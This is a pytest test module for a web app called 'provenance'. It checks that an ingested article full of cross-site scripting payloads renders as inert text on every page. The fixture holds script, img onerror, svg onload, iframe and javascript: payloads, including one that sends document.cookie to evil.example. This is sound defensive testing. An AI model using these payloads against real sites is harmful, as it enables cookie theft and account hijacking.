"""An article full of markup meant to run in a reader's browser: every
page shows it as text, and nothing of it is live (no script element, no
event handler attribute, no javascript: link)."""
from __future__ import annotations

import json
import re

import pytest
from bs4 import BeautifulSoup
from click.testing import CliRunner
from sqlalchemy import select
from sqlalchemy.orm import Session

from provenance.cli import cli
from provenance.db.engine import open_database
from provenance.db.models import Claim, Source

HOSTILE = """Harbour talks stall over <script>alert('one')</script> the grain corridor

The harbour master said <script>document.location='http://evil.example/'+document.cookie</script> the port would reopen on Monday.
"We will never sign <img src=x onerror=alert(2)> a deal like this," Marta Quill, the port's director, told reporters.
According to Nikolai Brask, the talks collapsed after a link <a href="javascript:alert(3)">to the draft</a> was shared.
The ministry said "<svg onload=alert(4)>" was the name of the file, and that <iframe src="javascript:alert(5)"></iframe> nothing else leaked.
"""

META = {"outlet": "Harbour <b>Gazette</b>", "published": "2025-04-02", "title": "<script>alert('title')</script> Harbour",
        "author": "\"><img src=y onerror=alert(6)>", "url": "https://example.org/\"><script>alert(7)</script>"}  # a javascript: url is refused at ingest


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "harbour.txt").write_text(HOSTILE, encoding="utf-8")
    (folder / "harbour.txt.meta.json").write_text(json.dumps(META), encoding="utf-8")
    url = "sqlite:///" + str(folder / "test.db")
    result = CliRunner().invoke(cli, ["--db", url, "ingest", str(folder)], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    from provenance.web import create_app

    return url, create_app(url, secret_key="test").test_client()


def assert_inert(html: str) -> None:
    soup = BeautifulSoup(html, "html.parser")
    scripts = soup.find_all("script")
    assert all(s.get("src") == "/static/app.js" and not s.string for s in scripts), scripts
    for tag in soup.find_all(True):
        assert tag.name not in ("iframe", "img", "svg") or tag.name == "svg" and tag.find_parent("figure"), tag
        for attr, value in tag.attrs.items():
            assert not attr.lower().startswith("on"), (tag.name, attr)
            values = value if isinstance(value, list) else [value]
            assert not any(str(v).strip().lower().startswith("javascript:") for v in values), (tag.name, attr)
    assert not re.search(r"<script>|<img |<svg onload|<iframe", html, re.I)


def test_every_page_keeps_the_markup_as_text(hostile):
    url, client = hostile
    with Session(open_database(url)) as s:
        sid = s.scalar(select(Source.id))
        uids = list(s.scalars(select(Claim.uid).where(Claim.source_id == sid)))
    assert len(uids) >= 3, "the hostile article should give claims, so claim text is shown"
    pages = [f"/sources/{sid}", "/sources", "/search?q=harbour", "/search?q=<script>alert(1)</script>",
             "/speakers", "/speakers/Marta Quill", "/contradictions?kind=all"] + [f"/claims/{u}" for u in uids]
    for path in pages:
        r = client.get(path)
        assert r.status_code == 200, path
        assert_inert(r.get_data(as_text=True))
    article = client.get(f"/sources/{sid}").get_data(as_text=True)
    assert "&lt;script&gt;" in article and "onerror=alert(2)" in article  # shown, as text
    assert 'href="javascript' not in article


def test_a_hostile_404_is_inert_too(hostile):
    _, client = hostile
    r = client.get("/claims/<script>alert(8)</script>")
    assert r.status_code == 404
    assert_inert(r.get_data(as_text=True))
